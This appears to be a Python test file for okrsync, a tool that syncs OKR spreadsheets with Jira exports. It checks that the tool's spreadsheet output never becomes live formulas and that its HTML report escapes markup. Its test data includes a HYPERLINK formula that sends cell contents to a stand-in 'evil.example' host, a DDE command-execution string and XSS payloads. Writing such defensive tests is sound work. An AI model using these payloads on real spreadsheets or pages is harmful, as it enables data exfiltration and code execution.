"""Whatever okrsync writes — KR texts in the log, error messages in status cells — lands
as inert text: never a formula in a sheet, never markup in an HTML report."""

from __future__ import annotations

import json

from openpyxl import load_workbook
from typer.testing import CliRunner

from okrsync.cli import app
from tests.helpers import EN_HEADER, issue, make_workbook

runner = CliRunner()
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_xlsx_never_gets_a_formula_from_okrsync(tmp_path):
    path = make_workbook(tmp_path / "okr.xlsx", [
        EN_HEADER,
        ["Eng", "O", "kr", "", 0, 10, None, None, None, None, None, "E-1", "metric"],
        ["Eng", "O", "+SUM(1,2)", "", 0, 10, None, None, None, None, None, "E-1"],
    ])
    book = load_workbook(path)
    for address, text in (("C2", EVIL), ("M2", "=cmd|' /C calc'!A0")):
        book.active[address] = text
        book.active[address].data_type = "s"  # typed as text, as people can
    book.save(path)
    (tmp_path / "export.json").write_text(json.dumps({"issues": [issue("S-1", "done", "E-1")]}))
    (tmp_path / "okrsync.toml").write_text(
        '[sheet]\nspreadsheet = "okr.xlsx"\n[jira]\nexport = "export.json"\n')
    result = runner.invoke(app, ["pull", "-c", str(tmp_path / "okrsync.toml"), "--as-of",
                                 "2024-08-20"])
    assert result.exit_code == 1
    book = load_workbook(tmp_path / "okr.xlsx")
    written = [c for row in book["okrsync log"].iter_rows() for c in row] + [
        book.active["N2"], book.active["N3"]]
    assert any(isinstance(c.value, str) and c.value.startswith("=") for c in written)
    assert all(c.data_type != "f" for c in written)
    assert book.active["N2"].value.startswith("no data") or "metric" in book.active["N2"].value


def test_html_report_escapes_everything_from_the_sheet(tmp_path):
    make_workbook(tmp_path / "okr.xlsx", [
        EN_HEADER,
        ['<img src=x onerror="alert(1)">', "</table><script>x()</script>", "KR & <b>", "<i>",
         0, 10, 5],
    ])
    (tmp_path / "okrsync.toml").write_text('[sheet]\nspreadsheet = "okr.xlsx"\n')
    page = runner.invoke(app, ["report", "-c", str(tmp_path / "okrsync.toml"), "--as-of",
                               "2024-08-20", "-f", "html"]).output
    for raw in ("<img", "<script>", "<b>", "<i>", "onerror=\""):
        assert raw not in page
    assert "KR &amp; &lt;b&gt;" in page
